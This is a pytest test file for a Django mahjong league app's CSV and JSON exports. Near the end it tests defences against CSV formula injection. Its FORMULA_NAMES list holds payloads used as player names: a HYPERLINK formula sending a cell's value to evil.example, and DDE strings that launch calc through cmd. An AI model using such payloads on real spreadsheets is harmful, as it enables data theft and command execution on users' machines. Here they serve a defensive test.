"""The downloads of a league: standings and rounds as CSV, the whole league as JSON."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.urls import reverse

from leagues.models import League, Match, Player, RoundEntry
from scoring.mhing import COMBINATIONS
from tests.clubs import shared_club

from .conftest import BIG_HAND, SMALL_HAND, win

# PostgreSQL run: rows sorted by name (collations), JSON.
pytestmark = pytest.mark.postgres

EXPORTS = ["standings_csv", "rounds_csv", "export_json"]


def rows(response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def umlaut(league):
    player = Player.objects.create(club=shared_club(), display_name="Jörg Größe")
    league.players.add(player)
    return player


@pytest.fixture
def played(league, players, umlaut):
    """Two matches: a finished one (Quentin wins with 512 points) and a running one."""
    pia, quentin, rosa, sven = players
    first = Match.begin(league, [pia, quentin, umlaut], first_dealer=1, played_on=date(2026, 9, 1))
    first.record_round(win(umlaut, SMALL_HAND))
    first.record_round(RoundEntry.draw())
    first.record_round(win(quentin, "123c 123c 99b [5b J 7b] [RdRdRd] F F", discarder=pia))
    first.record_round(win(quentin, BIG_HAND))
    second = Match.begin(league, [rosa, sven], first_dealer=0, played_on=date(2026, 9, 8))
    second.record_round(win(rosa, SMALL_HAND, discarder=sven))
    return first, second


@pytest.mark.django_db
class TestAccess:
    @pytest.mark.parametrize("name", EXPORTS)
    @pytest.mark.parametrize("persona", [None, "outsider", "member", "organiser"])
    def test_a_public_league_is_downloadable_by_everyone(
        self, client, request, league, name, persona
    ):
        if persona:
            client.force_login(request.getfixturevalue(persona))
        assert client.get(reverse(f"leagues:{name}", args=[league.slug])).status_code == 200

    @pytest.mark.parametrize("name", EXPORTS)
    @pytest.mark.parametrize(
        ("persona", "status"), [("outsider", 403), ("member", 200), ("organiser", 200)]
    )
    def test_a_members_only_league_is_for_its_members(
        self, client, request, league, match, name, persona, status
    ):
        league.is_public = False
        league.save()
        client.force_login(request.getfixturevalue(persona))
        assert client.get(reverse(f"leagues:{name}", args=[league.slug])).status_code == status

    @pytest.mark.parametrize("name", EXPORTS)
    def test_anonymous_visitors_of_a_members_only_league_are_sent_to_sign_in(
        self, client, league, name
    ):
        league.is_public = False
        league.save()
        response = client.get(reverse(f"leagues:{name}", args=[league.slug]))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))

    @pytest.mark.parametrize("name", EXPORTS)
    def test_an_unknown_league_is_not_found(self, client, name):
        assert client.get(reverse(f"leagues:{name}", args=["nowhere"])).status_code == 404

    @pytest.mark.parametrize("name", EXPORTS)
    def test_downloads_are_read_only(self, client, organiser, league, name):
        client.force_login(organiser)
        assert client.post(reverse(f"leagues:{name}", args=[league.slug])).status_code == 405


@pytest.mark.django_db
class TestStandingsCsv:
    def test_its_address_and_file(self, client, league):
        response = client.get("/leagues/tuesday/standings.csv")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="tuesday-standings.csv"'

    def test_one_row_per_player_with_the_season_figures(self, client, league, played):
        table = {row["player"]: row for row in rows(client.get("/leagues/tuesday/standings.csv"))}
        assert set(table) == {"Pia", "Quentin", "Rosa", "Sven", "Jörg Größe"}
        assert table["Quentin"] == {
            "player": "Quentin",
            "matches_played": "1",
            "match_wins": "1",
            "rounds_won": "2",
            "total_points": "544",
            "average_points_per_won_round": "272.0",
            "best_hand_points": "512",
            "rating": table["Quentin"]["rating"],
        }
        assert float(table["Quentin"]["rating"]) > float(table["Pia"]["rating"])
        # Rosa won a round in the running match: no finished match, so no rating yet.
        assert (table["Rosa"]["matches_played"], table["Rosa"]["match_wins"]) == ("1", "0")
        assert (table["Rosa"]["rounds_won"], table["Rosa"]["rating"]) == ("1", "")
        assert table["Sven"]["average_points_per_won_round"] == ""

    def test_the_best_rated_player_comes_first(self, client, league, played):
        first = rows(client.get("/leagues/tuesday/standings.csv"))[0]
        assert first["player"] == "Quentin"

    def test_names_with_accents_survive_a_spreadsheet(self, client, league, played):
        response = client.get("/leagues/tuesday/standings.csv")
        assert response.content.startswith("\ufeff".encode())
        names = [row["player"] for row in rows(response)]
        assert "Jörg Größe" in names

    def test_a_league_without_players_has_the_header_only(self, client, league):
        response = client.get("/leagues/tuesday/standings.csv")
        assert response.content.decode("utf-8-sig").splitlines() == [
            "player,matches_played,match_wins,rounds_won,total_points,"
            "average_points_per_won_round,best_hand_points,rating"
        ]


@pytest.mark.django_db
class TestRoundsCsv:
    def test_its_address_and_file(self, client, league):
        response = client.get("/leagues/tuesday/rounds.csv")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="tuesday-rounds.csv"'

    def test_one_row_per_round_in_the_order_played(self, client, league, played):
        table = rows(client.get("/leagues/tuesday/rounds.csv"))
        first, second = played
        assert [(r["match_id"], r["round"]) for r in table] == [
            (str(first.pk), "1"),
            (str(first.pk), "2"),
            (str(first.pk), "3"),
            (str(first.pk), "4"),
            (str(second.pk), "1"),
        ]
        assert [r["dealer"] for r in table] == ["Quentin", "Jörg Größe", "Pia", "Quentin", "Rosa"]

    def test_a_won_round_has_its_hand_and_the_credits_of_each_combination(
        self, client, league, played
    ):
        row = rows(client.get("/leagues/tuesday/rounds.csv"))[2]
        assert {k: row[k] for k in list(row)[:13]} == {
            "league": "tuesday",
            "match_id": str(played[0].pk),
            "date": "2026-09-01",
            "round": "3",
            "dealer": "Pia",
            "outcome": "won",
            "winner": "Quentin",
            "win_type": "discard",
            "discarder": "Pia",
            "hand": "[5b J 7b] [RdRdRd] 123c 123c 99b F F",
            "flowers": "2",
            "credits": "6",
            "points": "32",
        }
        combinations = {key: row[key] for key in list(row)[13:-1]}
        assert list(combinations) == [f"credits_{c.key}" for c in COMBINATIONS]
        assert list(row)[-1] == "confirmation" and row["confirmation"] == "confirmed"
        assert {k: v for k, v in combinations.items() if v != "0"} == {
            "credits_honour_triplet": "1",
            "credits_flowers": "2",
            "credits_identical_sequences": "3",
        }

    def test_a_draw_has_no_hand_and_no_credits(self, client, league, played):
        row = rows(client.get("/leagues/tuesday/rounds.csv"))[1]
        assert row["outcome"] == "draw"
        assert {
            value
            for key, value in row.items()
            if key not in ("league", "match_id", "date", "round", "dealer", "outcome")
            and key != "confirmation"
        } == {""}
        assert row["confirmation"] == "confirmed"

    def test_names_with_accents_survive_a_spreadsheet(self, client, league, played):
        table = rows(client.get("/leagues/tuesday/rounds.csv"))
        assert table[0]["winner"] == "Jörg Größe"


@pytest.mark.django_db
class TestJson:
    def test_its_address_and_file(self, client, league):
        response = client.get("/leagues/tuesday/export.json")
        assert response["Content-Type"] == "application/json; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="tuesday.json"'

    def test_the_league_with_its_settings_players_and_matches(self, client, league, played):
        document = json.loads(client.get("/leagues/tuesday/export.json").content)
        assert (document["format"], document["format_version"]) == ("mhing-league", 1)
        assert document["league"] == {
            "name": "Tuesday Club",
            "slug": "tuesday",
            "season_start": "2026-09-01",
            "season_end": None,
            "default_target": 500,
            "default_variant": "points",
            "is_public": True,
            "players_may_enter": False,
            "correction_minutes": 30,
        }
        assert document["players"] == ["Jörg Größe", "Pia", "Quentin", "Rosa", "Sven"]
        assert [m["date"] for m in document["matches"]] == ["2026-09-01", "2026-09-08"]

    def test_a_match_with_its_seats_in_order_and_its_rounds(self, client, league, played):
        document = json.loads(client.get("/leagues/tuesday/export.json").content)
        match = document["matches"][0]
        assert match["players"] == ["Pia", "Quentin", "Jörg Größe"]
        assert match["first_dealer"] == "Quentin"
        assert (match["target"], match["variant"], match["round_limit"]) == (500, "points", None)
        assert match["status"] == "finished"
        assert match["seats"] == [
            {"player": "Pia", "total": 0, "place": 3},
            {"player": "Quentin", "total": 544, "place": 1},
            {"player": "Jörg Größe", "total": 4, "place": 2},
        ]
        draw, won = match["rounds"][1:3]
        assert draw == {
            "number": 2,
            "dealer": "Jörg Größe",
            "outcome": "draw",
            "winner": None,
            "win_type": None,
            "discarder": None,
            "hand": None,
            "flowers": 0,
            "credits": 0,
            "points": 0,
            "combinations": {},
        }
        assert won == {
            "number": 3,
            "dealer": "Pia",
            "outcome": "won",
            "winner": "Quentin",
            "win_type": "discard",
            "discarder": "Pia",
            "hand": "[5b J 7b] [RdRdRd] 123c 123c 99b F F",
            "flowers": 2,
            "credits": 6,
            "points": 32,
            "combinations": {"honour_triplet": 1, "flowers": 2, "identical_sequences": 3},
        }

    def test_names_are_written_as_they_are(self, client, league, played):
        text = client.get("/leagues/tuesday/export.json").content.decode("utf-8")
        assert '"Jörg Größe"' in text

    def test_a_chips_match_keeps_its_variant_and_round_limit(self, client, league, players):
        Match.begin(
            league, players[:3], first_dealer=0, rules={"variant": "chips", "round_limit": 8}
        )
        match = json.loads(client.get("/leagues/tuesday/export.json").content)["matches"][0]
        assert (match["variant"], match["round_limit"]) == ("chips", 8)
        assert [seat["total"] for seat in match["seats"]] == [500, 500, 500]

    def test_no_accounts_are_exported(self, client, league, played, member, organiser):
        text = client.get("/leagues/tuesday/export.json").content.decode()
        assert member.username not in text and organiser.username not in text
        assert "password" not in text


@pytest.mark.django_db
def test_other_leagues_are_not_in_a_leagues_files(client, league, played, players):
    other = League.objects.create(club=shared_club(), name="Other", slug="other")
    Match.begin(other, players[:2], first_dealer=0).record_round(win(players[0]))
    assert len(rows(client.get("/leagues/tuesday/rounds.csv"))) == 5
    assert len(rows(client.get("/leagues/other/rounds.csv"))) == 1
    assert len(json.loads(client.get("/leagues/other/export.json").content)["matches"]) == 1


# A spreadsheet runs a cell starting with = + - @ tab or CR as a formula (OWASP: CSV injection).
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def formula_players(league):
    """A finished match of four whose players are named like formulas; the last to place
    has a negative rating (OpenSkill's ordinal, μ − 3σ, after one match)."""
    seated = [
        Player.objects.create(club=shared_club(), display_name=name) for name in FORMULA_NAMES[:4]
    ]
    match = Match.begin(league, seated, first_dealer=0, played_on=date(2026, 9, 1))
    match.record_round(win(seated[0], SMALL_HAND, discarder=seated[1]))
    match.record_round(win(seated[2], BIG_HAND, discarder=seated[3]))
    assert match.is_finished
    for name in FORMULA_NAMES[4:]:
        league.players.add(Player.objects.create(club=shared_club(), display_name=name))
    return seated


@pytest.mark.django_db
class TestFormulaInjection:
    def test_standings_names_that_start_a_formula_are_written_as_text(
        self, client, league, formula_players
    ):
        names = [row["player"] for row in rows(client.get("/leagues/tuesday/standings.csv"))]
        assert sorted(names) == sorted("'" + name for name in FORMULA_NAMES)

    def test_rounds_names_that_start_a_formula_are_written_as_text(
        self, client, league, formula_players
    ):
        first, second = rows(client.get("/leagues/tuesday/rounds.csv"))
        quoted = ["'" + name for name in FORMULA_NAMES[:4]]
        assert (first["dealer"], first["winner"], first["discarder"]) == (
            quoted[0],
            quoted[0],
            quoted[1],
        )
        assert (second["dealer"], second["winner"], second["discarder"]) == (
            quoted[1],
            quoted[2],
            quoted[3],
        )

    def test_no_cell_of_either_file_starts_a_formula(self, client, league, formula_players):
        for name in ("standings", "rounds"):
            text = client.get(f"/leagues/tuesday/{name}.csv").content.decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
            assert dangerous == [], name
            # A minus is a number's sign, never a name's first character.
            assert all(_is_number(c) for c in cells if c.startswith("-")), name

    def test_negative_numbers_stay_numbers(self, client, league, formula_players):
        ratings = [row["rating"] for row in rows(client.get("/leagues/tuesday/standings.csv"))]
        assert all(_is_number(rating) for rating in ratings if rating)
        assert min(float(rating) for rating in ratings if rating) < 0
        assert any(rating.startswith("-") for rating in ratings)

    def test_names_that_only_contain_such_characters_are_left_alone(self, client, league):
        player = Player.objects.create(club=shared_club(), display_name="Anne-Marie = Ann @home")
        league.players.add(player)
        (row,) = rows(client.get("/leagues/tuesday/standings.csv"))
        assert row["player"] == "Anne-Marie = Ann @home"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
